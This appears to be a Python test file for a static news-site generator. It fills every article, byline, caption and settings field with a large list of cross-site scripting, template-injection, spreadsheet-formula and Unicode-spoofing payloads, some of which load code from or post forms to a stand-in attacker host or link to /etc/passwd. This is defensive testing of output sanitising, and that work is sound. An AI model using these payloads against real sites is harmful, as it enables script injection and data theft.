"""Markup and script in every field of a site. Each payload would leave a mark if it ran."""

import json
from pathlib import Path

from newsgen.errors import Issue
from tests.hostile.cases import build_site

HOST = "evil.example"
"""What the payloads ask for; no page may."""
_JS = "window.hostile=1,alert(1)"
_CALM = "The sea was calm and the ferry came in at noon. " * 60
"""With less, a few control characters would make a file one of no text."""
PAYLOADS = {
    "script": f"<script>{_JS}</script>",
    "script in capitals": f"<SCRIPT\t>{_JS}</SCRIPT >",
    "script of another host": f"<script src=//{HOST}/a.js></script>",
    "script split by NUL": f"<scr\x00ipt>{_JS}</script>",
    "script inside script": f"<scr<script>ipt>{_JS}</scr</script>ipt>",
    "module": f'<script type=module>import "//{HOST}/m.js"</script>',
    "picture": f"<img src=x onerror={_JS}>",
    "picture of another host": f"<img src=//{HOST}/a.png srcset='//{HOST}/b.png 2x'>",
    "picture without an end": f"<img src=x onerror={_JS} x=",
    "picture with slashes": f"<img/src=x/onerror={_JS}>",
    "picture with a backtick": f"<img src=`x`onerror={_JS}>",
    "svg": f"<svg onload={_JS}>",
    "svg with script": f"<svg><script href=data:text/javascript,{_JS} /></svg>",
    "svg that animates": f"<svg><animate onbegin={_JS} attributeName=x dur=1s></svg>",
    "svg that sets a link": (
        f"<svg><a><set attributeName=href to='javascript:{_JS}'/><text y=20>x</text></a></svg>"),
    "svg with a foreign object": f"<svg><foreignObject><iframe srcdoc='<script>{_JS}</script>'>",
    "math": f"<math><maction actiontype=statusline xlink:href=javascript:{_JS}>x</maction></math>",
    "math with a link": f"<math href=javascript:{_JS}>x</math>",
    "frame": f"<iframe src=javascript:{_JS}></iframe>",
    "frame with a document": f"<iframe srcdoc='<script>parent.{_JS}</script>'></iframe>",
    "frame of another host": f"<iframe src=//{HOST}/></iframe>",
    "object": f"<object data='data:text/html,<script>{_JS}</script>'></object>",
    "embed": f"<embed src=javascript:{_JS}>",
    "applet": f"<applet code=javascript:{_JS}></applet>",
    "style": f"<style>@import '//{HOST}/a.css';*{{background:url(//{HOST}/b)}}</style>",
    "style attribute": f"<p style='background:url(//{HOST}/c);position:fixed;inset:0'>x</p>",
    "link": f"<link rel=stylesheet href=//{HOST}/a.css><link rel=preload href=//{HOST}/x as=image>",
    "base": f"<base href=//{HOST}/><base target=_blank>",
    "refresh": f"<meta http-equiv=refresh content='0;url=//{HOST}/'>",
    "refresh to script": f"<meta http-equiv=refresh content='0;url=javascript:{_JS}'>",
    "policy": "<meta http-equiv=Content-Security-Policy content=\"default-src * 'unsafe-inline'\">",
    "form": f"<form action=//{HOST}/><input autofocus onfocus={_JS}><button>x</button></form>",
    "form elsewhere": f"<button form=search formaction=javascript:{_JS}>x</button>",
    "select": f"<select autofocus onfocus={_JS}><option>x</select>",
    "details": f"<details open ontoggle={_JS}>x</details>",
    "video": f"<video autoplay onloadstart={_JS}><source src=x onerror={_JS}></video>",
    "audio": f"<audio src=x onerror={_JS}></audio>",
    "marquee": f"<marquee onstart={_JS}>x</marquee>",
    "body": f"<body onload={_JS} onpageshow={_JS}>",
    "key": f"<a accesskey=x onclick={_JS} contenteditable onfocus={_JS} autofocus tabindex=1>x</a>",
    "animation": f"<p style='animation:x 1s' onanimationstart={_JS}>x</p>",
    "end of title": f"</title><script>{_JS}</script>",
    "end of script": f"</script><script>{_JS}</script>",
    "end of style": f"</style><script>{_JS}</script>",
    "end of textarea": f"</textarea><script>{_JS}</script>",
    "end of comment": f"--><script>{_JS}</script><!--",
    "end of comment, otherwise": f"--!><img src=x onerror={_JS}>",
    "end of data": f"]]><script>{_JS}</script>",
    "start of a comment in script": "<!--<script>",
    "end of a double quote": f'"><script>{_JS}</script>',
    "attribute after a double quote": f'" autofocus tabindex=1 onfocus="{_JS}" x="',
    "attribute after a single quote": f"' autofocus tabindex=1 onfocus='{_JS}' x='",
    "end of JSON": f'"}}</script><script>{_JS}</script>',
    "separators in JSON": f"\u2028\u2029\";{_JS}//",
    "template literal": f"`${{{_JS}}}`",
    "Jinja": "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "format": "{0.__class__} {name} %s %(x)s ${x} \\1 \\g<0>",
    "UTF-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "entities": f"&lt;script&gt;{_JS}&lt;/script&gt;",
    "numeric entities": f"&#60;script&#62;{_JS}&#60;/script&#62;",
    "entities twice": f"&amp;lt;script&amp;gt;{_JS}",
    "wide signs": f"＜script＞{_JS}＜/script＞",
    "plaintext": f"<plaintext><script>{_JS}</script>",
    "xmp": f"<xmp><p title='</xmp><img src=x onerror={_JS}>'>",
    "noscript": f"<noscript><p title='</noscript><img src=x onerror={_JS}>'>",
    "template": f"<template shadowrootmode=open><script>{_JS}</script></template>",
    "mutation by math": (
        f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 "
        f"onerror={_JS}&gt;'>"),
    "mutation by svg": f"<svg></p><style><a id='</style><img src=1 onerror={_JS}>'>",
    "mutation by forms": (
        f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={_JS}>"),
    "mutation by a namespace": f"<svg><title><style></title><img src onerror={_JS}></style></svg>",
    "mutation by an entity": f"<a title='&lt;/a&gt;&lt;img src=x onerror={_JS}&gt;'>x</a>",
    "clobbered document": "<a id=body><img name=cookie><form name=getElementById><input id=main>",
    "link to script": f"[x](javascript:{_JS})",
    "link to script in capitals": f"[x](JaVaScRiPt:{_JS})",
    "link to script with a tab": f"[x](java\tscript:{_JS})",
    "link to script with an entity": f"[x](java&#115;cript:{_JS})",
    "link to script behind a control": f"[x](\x01javascript:{_JS})",
    "link to data": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "link to vbscript": "[x](vbscript:msgbox(1))",
    "link to a file": "[x](file:///etc/passwd) [y](../../../../etc/passwd) [z](/etc/passwd)",
    "link to another host": f"[x](//{HOST}/) ![y](//{HOST}/a.png) ![z](https://{HOST}/b.png)",
    "link by name to script": f"[x][y]\n\n[y]: javascript:{_JS}",
    "link in brackets to script": f"<javascript:{_JS}>",
    "title that breaks out": f"[x](y 'a\" onmouseover=\"{_JS}')",
    "attribute list": f"# x {{: onclick=\"{_JS}\" style=\"color:red\" }}",
    "right-to-left override": "\u202etpircs\u202c \u2066x\u2069 \u200b\u200d\ufeff",
    "homograph": "Аna Ruіz",
    "private use": "\ue0f00\ue0f2x\ue0f1\ue0f31\ue0f2",
    "placeholder": "\x02wzxhzdk:0\x03",
    "terminal": "\x1b]0;x\x07\x1b[2J",
    "formula": "=cmd|' /C calc'!A1",
    "formula with at": "@SUM(1+1)*cmd|' /C calc'!A0",
}  # fmt: skip
FIELDS = (
    "headline", "subheadline", "bylines", "dateline", "caption", "credit", "topics", "people",
    "places", "organisations", "story", "speaker", "quotation", "body of Markdown", "body of text",
    "title of the site", "authority file", "house", "words of the pages", "takedown",
)  # fmt: skip


def write_sources() -> dict[str, str]:
    """A site with every payload in every field."""
    files = {"newsgen.yaml": _settings(), "authority.yaml": _authority(), "strings.yaml": _words()}
    files["takedowns.yaml"] = "".join(
        f"/gone/{number}/:\n  reason: {_quoted(payload)}\n"
        for number, payload in enumerate(PAYLOADS.values())
    )
    for number, payload in enumerate(PAYLOADS.values()):
        files[f"articles/a{number}.md"] = _article(number, payload)
        files[f"seeds/s{number}.txt"] = _copy(number, payload)
    return files


def build_markup(folder: Path) -> tuple[Issue, ...]:
    """Build the site with all payloads."""
    issues = build_site(folder, write_sources())
    assert (folder / "build/index.html").is_file(), [str(issue) for issue in issues][:9]
    return issues


def _quoted(text: str) -> str:
    """`text` as YAML writes it in double quotes, with what YAML refuses left out."""
    return json.dumps("".join(c for c in text if c >= " " or c in "\t\n"))


def _settings() -> str:
    payload = _quoted("".join(PAYLOADS[name] for name in ("end of title", "script", "picture")))
    address = "url: https://archive.example\npage_size: 500\n"
    return f"title: {payload}\ntagline: {payload}\nfooter: {payload}\n{address}ninjs: true\n"


def _authority() -> str:
    links = [f"javascript:{_JS}", f"data:text/html,<script>{_JS}</script>", f'https://{HOST}/" x=']
    return (
        "people:\n"
        + "".join(
            f"  p{number}:\n    name: {_quoted(f'Pat{number} {payload}')}\n"
            f"    aliases: [{_quoted(f'Per{number} {payload}')}]\n"
            for number, payload in enumerate(PAYLOADS.values())
        )
        + (f"    links: {json.dumps(links[2:])}\n" if links else "")
    )


def _words() -> str:
    return f"names:\n  bylines: {_quoted(PAYLOADS['end of a double quote'])}\n"


def _article(number: int, payload: str) -> str:
    def of(field: str) -> str:
        return _quoted(f"{field}{number} {payload}")

    flat = payload.replace("\n", " ")
    return (
        f"---\nheadline: {of('Head')}\nslug: h{number}\nsubheadline: {of('Sub')}\n"
        f"date: 2021-05-{number % 28 + 1:02}\n"
        f"bylines: [{{name: {of('By')}, role: {of('Role')}, organisation: {of('Org')}, "
        f"place: {of('Pl')}}}]\n"
        f"dateline: {of('DATE')}\nstory: {of('Run')}\n"
        f"photos: [{{caption: {of('Cap')}, credit: {of('Cre')}}}]\n"
        f"topics: [{of('Top')}]\npeople: [{of('Per')}]\nplaces: [{of('Place')}]\n"
        f"organisations: [{of('Union')}]\n"
        f"quotes:\n  q1: {{speaker: {of('Speak')}, role: {of('As')}}}\n---\n\n"
        f"“We sail {flat} at noon,” said Ana Ruiz.\n\n{_CALM}{payload}\n\n"
        f"- {payload}\n\n> {payload}\n\n"
        f"    {payload}\n\nA line {payload} and `{payload}` [{payload}]({payload} '{payload}')\n"
    )


def _copy(number: int, payload: str) -> str:
    flat = payload.replace("\n", " ")
    return (
        f"Seed{number} {flat}\n\nBy Ana {flat}\n\nTRIESTE {flat} (AFP) - The ferry {flat} came.\n\n"
        f"“We {flat} sail,” said Ana {flat} Ruiz, the {flat} mayor, on Monday.\n\n"
        f"Photo: {flat} / AP\n\n(Photo by {flat}/AP)\n\n{_CALM}{payload}\n"
    )
